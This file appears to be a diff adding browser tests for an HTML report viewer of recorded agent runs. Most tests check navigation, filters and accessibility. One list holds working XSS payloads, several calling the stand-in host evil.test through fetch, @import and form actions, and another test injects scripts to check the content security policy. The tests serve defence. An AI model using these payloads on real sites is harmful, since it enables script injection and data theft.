@@ -1,0 +1,473 @@
+"""The HTML report in a real browser: what it shows, how it is used, and that nothing in it ever runs."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from msgspec.structs import replace
+from playwright.sync_api import Browser, BrowserContext, Page, Request, expect
+
+from replaykit.bundle.reader import open_bundle
+from replaykit.grading.engine import build_report, grade_many
+from replaykit.grading.judges.tape import append_reply
+from replaykit.grading.request import ImagePart, ModelReply, ModelRequest, TextPart
+from replaykit.grading.verdict import Evidence, Judgement, JudgeOutcome, Report, Value
+from replaykit.report.write import write_report
+from replaykit.testing import Builder, trajectory
+from replaykit.trajectory.action import Element, Fill
+from replaykit.trajectory.exchange import Console, Download
+
+pytestmark = pytest.mark.live
+
+RECORDINGS = Path(__file__).parents[2] / "recordings" / "conformance"
+
+ATTACKS = (
+    "<script>window.hit=1;alert(1)</script>",
+    "</script><script>window.hit=2;alert(2)</script>",
+    "<!--<script>window.hit=3;alert(3)</script>-->",
+    "<img src=x onerror=\"window.hit=4;alert(4);fetch('http://evil.test/4')\">",
+    "\"><svg onload='window.hit=5;alert(5)'>",
+    "javascript:window.hit=6;alert(6)",
+    "'-alert(7)-'",
+    "{{title}}${alert(8)}`;alert(8);//",
+    "</style><style>@import 'http://evil.test/9';</style>",
+    "<iframe srcdoc='<script>parent.hit=10;alert(10)</script>'></iframe>",
+    "<base href='http://evil.test/'><a href=//evil.test/11 ping=http://evil.test/11>x</a>",
+    "<form action='http://evil.test/12'><button formaction='javascript:alert(12)' autofocus onfocus=alert(12)>x</form>",
+    "data:text/html,<script>alert(13)</script>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(14)&gt;'>",
+    "<meta http-equiv=refresh content='0;url=http://evil.test/15'>",
+    "\u202eevil\u2066\u0000\u001b[31m",
+)
+"""Words that want to be more than words."""
+
+ALL = " ".join(ATTACKS)
+
+
+class Watched:
+    """A page with a report in it, and everything that it should not do."""
+
+    def __init__(self, context: BrowserContext, file: Path, address: str = "") -> None:
+        self.page: Page = context.new_page()
+        self.file = file
+        self.dialogs: list[str] = []
+        self.requests: list[str] = []
+        self.complaints: list[str] = []
+        self.page.on("dialog", self._dialog)
+        self.page.on("request", self._request)
+        self.page.on("console", lambda said: self.complaints.append(said.text))
+        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        self.open(address)
+
+    def open(self, address: str = "") -> None:
+        self.page.goto("about:blank")
+        self.page.goto(f"{self.file.as_uri()}{address}")
+        expect(self.page.locator("main")).to_be_visible()
+
+    def is_inert(self) -> None:
+        """Nothing ran, nothing was sent, nothing was even refused."""
+        assert self.dialogs == []
+        assert self.requests == []
+        assert self.complaints == []
+        for frame in self.page.frames:
+            if frame is self.page.main_frame:
+                assert frame.evaluate("window.hit") is None
+
+    def _dialog(self, dialog: Any) -> None:
+        self.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    def _request(self, request: Request) -> None:
+        if not request.url.startswith((self.file.as_uri(), "blob:", "about:")):
+            self.requests.append(request.url)
+
+
+@pytest.fixture
+def context(browser: Browser) -> Iterator[BrowserContext]:
+    made = browser.new_context(viewport={"width": 1280, "height": 800})
+    yield made
+    made.close()
+
+
+Shown = Callable[..., Watched]
+
+
+@pytest.fixture
+def shown(context: BrowserContext, tmp_path: Path) -> Shown:
+    """Write a report of bundles and open it."""
+
+    def opened(
+        *sources: Path, report: Report | None = None, address: str = "", label: str | None = None
+    ) -> Watched:
+        file = tmp_path / "report.html"
+        write_report(report or grade_many(sources, label=label), file, sources=sources)
+        return Watched(context, file, address)
+
+    return opened
+
+
+@pytest.fixture
+def violation(shown: Shown) -> Watched:
+    """One shipped run that breaks a policy at its last step."""
+    return shown(RECORDINGS / "refund-order--no_consent.zst")
+
+
+@pytest.fixture
+def shipped(shown: Shown) -> Watched:
+    """All shipped runs."""
+    return shown(*sorted(RECORDINGS.glob("*.zst")), label="shipped recordings")
+
+
+def hostile_run() -> Builder:
+    """A run that says nothing but attacks, everywhere where a run says anything."""
+    task = {
+        "id": ALL,
+        "intent": ALL,
+        "start_urls": [ALL],
+        "checks": [{"type": "string_match", "must_include": [ALL]}],
+        "policies": [
+            {
+                "id": ALL,
+                "dimension": "user_consent",
+                "rule": {"type": "url_boundary", "deny": ["/"]},
+                "description": ALL,
+            }
+        ],
+        "metadata": {ALL: ALL},
+    }
+    page = "".join(f"<p>{said}</p>" for said in ATTACKS) + f"<title>{ALL}</title><input value='{ATTACKS[6]}'>"
+    run = trajectory(task, sites={"shop": ("http://shop.test", ALL)}, run=ALL)
+    run.goto(f"http://shop.test/{ALL}", page, thought=ALL, raw={ALL: [ALL]}, log=(ALL,)).screenshot()
+    run.click(
+        ALL, page, name=ALL, text=ALL, value=ALL, role=ALL, attributes={ALL: ALL}, box=(0, 0, 9, 9)
+    ).screenshot()
+    run.step(Fill(element=Element(css=ALL), value=ALL), error=ALL, thought=ALL).select("#y", ALL)
+    run.request(
+        "GET", f"http://shop.test/{ALL}", mime=ALL, status_text=ALL, error=ALL, request_headers=((ALL, ALL),)
+    )
+    run.dialog(ALL, "confirm").visit(f"http://shop.test/{ALL}").say(ALL).say(ALL, "ask").reply(ALL, True)
+    run.add(Console(level="error", text=ALL, source=ALL)).add(Download(url=ALL, suggested=ALL))
+    run.gap("network", ALL).probe(ALL, page)
+    return run.answer(ALL)
+
+
+def judged(path: Path) -> Report:
+    """A report whose judge was told, and says, nothing but attacks."""
+    report = grade_many([path])
+    with open_bundle(path) as bundle:
+        digest, picture = (
+            bundle.digest,
+            next(id for id in bundle.blob_ids if bundle.blob_type(id).startswith("image")),
+        )
+    request = ModelRequest(
+        judge=ALL, stage=ALL, index=0, system=ALL, model=f"anthropic:{ALL}", max_tokens=256,
+        content=(TextPart(text=ALL), ImagePart(sha256=picture, media_type="image/png", width=2, height=2, step=0)),
+    )  # fmt: skip
+    reply = ModelReply(text=ALL, stop_reason=ALL, model=ALL, origin="synthetic")
+    tape = path.with_name(path.name.removesuffix(".zst") + ".replies.jsonl")
+    entry = append_reply(tape, request, reply, trajectory=digest)
+    judgement = Judgement(
+        judge=ALL, outcome=JudgeOutcome.FAILURE, reason=ALL, fingerprint=ALL, detail=ALL,
+        stages=({"stage": ALL, "request_key": entry.key, "reply_text": ALL},),
+        images={"sent": [{"step": 0, "digest": picture, "role": ALL}]},
+        grounding=({"span": ALL, "kind": ALL, "steps": [0]},),
+    )  # fmt: skip
+    evidence = Evidence(
+        item=ALL, source=ALL, step=0, action=ALL, url=ALL, locator=ALL, excerpt=ALL, note=ALL,
+        expected=Value(raw=ALL, normal=[ALL], type=ALL), found=Value(raw={ALL: ALL}),
+    )  # fmt: skip
+    verdict = report.verdicts[0]
+    checks = tuple(
+        replace(check, reason=ALL, notes=(ALL,), missing=(ALL,), evidence=(evidence,))
+        for check in verdict.checks
+    )
+    return build_report([replace(verdict, checks=checks, judgements=(judgement,))], label=ALL)
+
+
+def test_hostile_words_do_nothing_anywhere(shown: Shown, tmp_path: Path) -> None:
+    path = hostile_run().write(tmp_path / "<img src=x onerror=alert(1)>'\".zst")
+    watched = shown(path, report=judged(path))
+    page = watched.page
+    tags = (
+        "script:not([type]), script[type='application/json'], script[type$='deflate'], script[type$='base64']"
+    )
+    scripts = page.locator("script").count()
+    assert page.locator(tags).count() == scripts
+    for tab in page.get_by_role("tab").all():
+        tab.click()
+        for summary in page.locator("#panel details:not([open]) > summary").all():
+            summary.click()
+        watched.is_inert()
+    for kind in ("Picture", "Page"):
+        page.get_by_role("button", name=kind, exact=True).click()
+        for act in page.locator("button.act").all():
+            act.click()
+            expect(page.locator(".canvas > *")).to_be_visible()
+            watched.is_inert()
+    page.locator("a.brand").click()
+    page.evaluate("history.pushState(null, '', '#q=' + encodeURIComponent('<img src=x onerror=alert(1)>'))")
+    page.reload()
+    watched.is_inert()
+    assert page.locator("script").count() == scripts
+    assert (
+        page.locator(
+            "#app script, #app style, #app form[action], #app a[href^='javascript'], #app [onerror]"
+        ).count()
+        == 0
+    )
+    assert "evil.test" in page.content()
+
+
+def test_what_gets_in_all_the_same_is_refused_by_the_policy(shown: Shown, tmp_path: Path) -> None:
+    watched = shown(trajectory().goto("http://shop.test/", "<p>x</p>").answer("y").write(tmp_path / "a.zst"))
+    page = watched.page
+    page.evaluate("""() => {
+        window.refused = [];
+        document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
+        const script = document.createElement('script');
+        try { script.textContent = 'window.hit = 1'; document.body.append(script); } catch { window.refused.push('sink'); }
+        try { document.body.insertAdjacentHTML('beforeend', '<img src=http://evil.test/>'); } catch { window.refused.push('sink'); }
+        const image = new Image(); image.src = 'http://evil.test/'; document.body.append(image);
+        const link = document.createElement('a');
+        try { link.setAttribute('onclick', 'window.hit = 2'); link.click(); } catch { window.refused.push('sink'); }
+        fetch('http://evil.test/').catch(() => window.refused.push('fetch'));
+        const frame = document.createElement('iframe'); frame.src = 'http://evil.test/'; document.body.append(frame);
+    }""")
+    page.wait_for_function("window.refused.includes('fetch') && window.refused.includes('frame-src')")
+    refused = set(page.evaluate("window.refused"))
+    assert {"sink", "img-src", "connect-src", "frame-src"} <= refused
+    assert page.evaluate("window.hit") is None
+    assert watched.requests == [] or all("evil.test" in url for url in watched.requests)
+
+
+def test_a_drawn_page_has_no_permission_at_all(violation: Watched) -> None:
+    page = violation.page
+    page.get_by_role("button", name="Page", exact=True).click()
+    frame = page.locator(".canvas iframe")
+    expect(frame).to_have_attribute("sandbox", "")
+    inner = page.frame_locator(".canvas iframe")
+    expect(inner.get_by_text("Tom O'Neil").first).to_be_visible()
+    assert inner.locator("script, a, form, img, link, iframe").count() == 0
+    violation.is_inert()
+
+
+def test_a_step_shows_its_picture_with_what_was_acted_on(violation: Watched) -> None:
+    page = violation.page
+    page.keyboard.press("n")
+    expect(page.locator(".step-list [aria-current=step]")).to_contain_text("Confirm refund")
+    picture, target, point = (page.locator(f".canvas {name}") for name in ("img", ".target", ".point"))
+    expect(picture).to_be_visible()
+    whole, box, spot = picture.bounding_box(), target.bounding_box(), point.bounding_box()
+    assert whole is not None
+    assert box is not None
+    assert spot is not None
+    scale = whole["width"] / 1280
+    # Box and point of the recording: 681, 428, 145, 39; 753, 446; a border of 2 px around the box.
+    assert box["x"] - whole["x"] == pytest.approx(681 * scale - 2, abs=1.5)
+    assert box["width"] == pytest.approx(145 * scale + 4, abs=1.5)
+    assert spot["x"] + spot["width"] / 2 - whole["x"] == pytest.approx(753 * scale, abs=1.5)
+    assert spot["y"] + spot["height"] / 2 - whole["y"] == pytest.approx(446 * scale, abs=1.5)
+    assert picture.evaluate("image => image.naturalWidth") == 1280
+
+
+def test_the_target_is_marked_on_the_drawn_page_too(violation: Watched) -> None:
+    page = violation.page
+    page.keyboard.press("n")
+    page.keyboard.press("v")
+    button = page.frame_locator(".canvas iframe").get_by_text("Confirm refund")
+    place = button.evaluate("node => [node.getBoundingClientRect().x, node.getBoundingClientRect().y]")
+    page.wait_for_function("document.querySelector('.sheet').style.getPropertyValue('--scale') !== ''")
+    frame, target = (page.locator(f".canvas {name}").bounding_box() for name in ("iframe", ".target"))
+    wide = float(page.locator(".canvas iframe").get_attribute("width") or 0)
+    assert frame is not None
+    assert target is not None
+    # The page is drawn at its own width and shrunk to the sheet.
+    for axis, at in zip("xy", place, strict=True):
+        assert target[axis] == pytest.approx(frame[axis] + at * frame["width"] / wide - 2, abs=1.5)
+
+
+def test_keys_walk_steps_violations_and_runs(shipped: Watched) -> None:
+    page = shipped.page
+    page.keyboard.press("/")
+    page.keyboard.type("note-triage")
+    expect(page.locator(".rows .row")).to_have_count(1)
+    page.keyboard.press("Escape")
+    page.keyboard.press("j")
+    page.keyboard.press("Enter")
+    current = page.locator(".step-list [aria-current=step] .number")
+    expect(current).to_have_text("0")
+    for key, step in (("j", "1"), ("j", "2"), ("k", "1"), ("n", "5"), ("n", "0"), ("p", "5"), ("p", "0")):
+        page.keyboard.press(key)
+        expect(current).to_have_text(step)
+    page.keyboard.press("/")
+    page.keyboard.type("confirm")
+    page.keyboard.press("Enter")
+    expect(current).to_have_text("5")
+    page.keyboard.press("Escape")
+    page.keyboard.press("u")
+    expect(page.locator(".table")).to_be_visible()
+    page.keyboard.press("?")
+    expect(page.get_by_role("dialog")).to_contain_text("next, previous violation")
+
+
+def test_an_address_leads_back_to_what_was_shown(shipped: Watched) -> None:
+    page = shipped.page
+    page.get_by_role("link", name="refund-order--no_consent").click()
+    expect(page.get_by_role("heading", name="refund-order--no_consent")).to_be_visible()
+    page.keyboard.press("n")
+    page.get_by_role("tab", name="Network").click()
+    page.keyboard.press("b")
+    address = page.evaluate("location.hash")
+    shipped.open(address)
+    expect(page.get_by_role("heading", name="refund-order--no_consent")).to_be_visible()
+    expect(page.locator(".step-list [aria-current=step] .number")).to_have_text("3")
+    expect(page.get_by_role("tab", name="Network")).to_have_attribute("aria-selected", "true")
+    expect(page.get_by_role("button", name="After", exact=True)).to_have_attribute("aria-pressed", "true")
+    page.go_back()
+    shipped.open("#success=FAIL&sort=-steps")
+    expect(page.locator(".count")).to_have_text("4 of 16 runs")
+    steps = page.locator(".rows .cell.steps").all_inner_texts()
+    assert steps == sorted(steps, key=int, reverse=True)
+
+
+def test_evidence_leads_to_its_step(violation: Watched) -> None:
+    page = violation.page
+    page.locator(".result", has_text="ask-before-refund").get_by_role("button", name="step 3").click()
+    expect(page.locator(".step-list [aria-current=step] .number")).to_have_text("3")
+    expect(page.locator(".film [aria-current=step]")).to_contain_text("3")
+    page.get_by_role("slider", name="Step").fill("0")
+    expect(page.locator(".step-list [aria-current=step] .number")).to_have_text("0")
+
+
+def test_the_judge_s_transcript_shows_what_it_saw(shown: Shown) -> None:
+    watched = shown(RECORDINGS / "return-window--good.zst")
+    page = watched.page
+    page.get_by_role("tab", name="Judge").click()
+    expect(page.locator(".turn.replied")).to_contain_text("SUCCESS")
+    expect(page.locator(".turn.asked")).to_contain_text("within how many days")
+    picture = page.locator(".turn.asked img")
+    picture.scroll_into_view_if_needed()
+    page.wait_for_function("document.querySelector('.turn.asked img').naturalWidth === 1280")
+    page.locator(".turn.asked .thumb").click()
+    expect(page.get_by_role("dialog", name="Picture")).to_be_visible()
+    page.keyboard.press("Escape")
+    expect(page.get_by_role("dialog", name="Picture")).to_be_hidden()
+
+
+def test_filters_narrow_the_table_and_the_charts_filter(shipped: Watched) -> None:
+    page = shipped.page
+    expect(page.locator(".count")).to_have_text("16 of 16 runs")
+    page.get_by_role("button", name="Fail 4").click()
+    expect(page.locator(".rows .row")).to_have_count(4)
+    page.get_by_role("button", name="All 16").click()
+    page.get_by_role("button", name="User consent").click()
+    expect(page.locator(".count")).to_have_text("3 of 16 runs")
+    page.get_by_label("Violated dimension").select_option(label="Any policies")
+    page.get_by_role("columnheader", name="Time").get_by_role("link").click()
+    times = page.locator(".rows .cell.ms").all_inner_texts()
+    assert times[0].endswith("ms")
+
+
+@pytest.fixture(scope="module")
+def thousand(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A report of 1,000 verdicts, of which one has its bundle."""
+    path = RECORDINGS / "order-total--good.zst"
+    verdict = grade_many([path]).verdicts[0]
+    many = [replace(verdict, task_id=f"task-{n:04}", trajectory=f"sha256:{n:064x}") for n in range(999)]
+    file = tmp_path_factory.mktemp("thousand") / "report.html"
+    write_report(build_report([*many, verdict]), file, sources=[path])
+    return file
+
+
+def test_a_thousand_runs_cost_the_rows_on_the_screen(context: BrowserContext, thousand: Path) -> None:
+    watched = Watched(context, thousand)
+    page = watched.page
+    expect(page.locator(".count")).to_have_text("1000 of 1000 runs")
+    assert page.locator(".rows .row").count() < 80
+    page.locator("main").evaluate("main => main.scrollTo(0, main.scrollHeight)")
+    expect(page.get_by_role("link", name="order-total--good")).to_be_visible()
+    assert page.locator(".rows .row").count() < 80
+    rows = page.locator(".rows .row").evaluate_all(
+        "rows => rows.map((row) => Number(row.getAttribute('aria-rowindex')))"
+    )
+    assert rows == list(range(rows[0], 1002))
+    page.emulate_media(media="print")
+    page.evaluate("dispatchEvent(new Event('beforeprint'))")
+    expect(page.locator(".rows .row")).to_have_count(1000)
+    page.emulate_media(media="screen")
+    page.evaluate("dispatchEvent(new Event('afterprint'))")
+    expect(page.locator(".rows .row")).not_to_have_count(1000)
+    watched.is_inert()
+
+
+def test_a_run_without_its_bundle_shows_its_verdict(context: BrowserContext, thousand: Path) -> None:
+    watched = Watched(context, thousand, f"#run={0:012x}")
+    # Ids that begin alike are written out: the short one leads nowhere.
+    expect(watched.page.locator(".table")).to_be_visible()
+    watched.open(f"#run={0:064x}")
+    expect(watched.page.locator(".canvas")).to_contain_text("The bundle was not given")
+    expect(watched.page.locator("#panel")).to_contain_text("string_match")
+    watched.is_inert()
+
+
+@pytest.mark.parametrize("address", ["", "#run=3602f33ff601&step=3"])
+def test_a_phone_shows_it_without_scrolling_sideways(shipped: Watched, address: str) -> None:
+    page = shipped.page
+    page.set_viewport_size({"width": 360, "height": 740})
+    shipped.open(address)
+    assert page.evaluate("document.documentElement.scrollWidth") <= 360
+    widest = page.locator("#stage").evaluate("node => node.scrollWidth")
+    assert widest <= 360
+
+
+def test_light_and_dark_are_readable(shipped: Watched) -> None:
+    page = shipped.page
+    for _ in range(2):
+        for address in ("", "#run=a354826a6083&step=0"):
+            page.evaluate("address => { location.hash = address; }", address or "#")
+            expect(page.locator("main")).to_be_visible()
+            assert page.evaluate(CONTRAST) == []
+        page.keyboard.press("t")
+
+
+# Texts whose contrast with what is behind them is under 4.5 (WCAG 2.2, 1.4.3).
+CONTRAST = """() => {
+  const canvas = new OffscreenCanvas(1, 1).getContext('2d', { willReadFrequently: true });
+  const over = (colours) => {
+    canvas.clearRect(0, 0, 1, 1);
+    for (const colour of colours) { canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1); }
+    return [...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3);
+  };
+  const light = (rgb) => {
+    const [r, g, b] = rgb.map((v) => v / 255).map((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4));
+    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
+  };
+  const low = [];
+  for (const node of document.querySelectorAll('#app *')) {
+    const own = [...node.childNodes].some((kid) => kid.nodeType === 3 && kid.data.trim());
+    if (!own || !node.checkVisibility({ opacityProperty: true, visibilityProperty: true })) continue;
+    const behind = [];
+    for (let up = node; up; up = up.parentElement) behind.unshift(getComputedStyle(up).backgroundColor);
+    const ground = over(['white', ...behind]);
+    const text = over([`rgb(${ground})`, getComputedStyle(node).color]);
+    const [a, b] = [light(ground), light(text)].sort((x, y) => y - x);
+    if ((a + 0.05) / (b + 0.05) < 4.5) low.push(`${node.className || node.tagName}: ${node.textContent.slice(0, 30)}`);
+  }
+  return low;
+}"""
+
+
+def test_everything_that_can_be_used_has_a_name(shipped: Watched) -> None:
+    page = shipped.page
+    for address in ("", "#run=3602f33ff601&step=3&tab=network"):
+        shipped.open(address)
+        nameless = page.evaluate("""() => [...document.querySelectorAll('#app button, #app a, #app input, #app select, #app iframe, #app img')]
+            .filter((node) => !(node.textContent.trim() || node.getAttribute('aria-label') || node.title || node.closest('label')
+              || node.hasAttribute('alt')))
+            .map((node) => node.outerHTML.slice(0, 80))""")
+        assert nameless == []
+    expect(page.get_by_role("tabpanel")).to_be_visible()
+    expect(page.get_by_role("navigation", name="Steps")).to_be_visible()
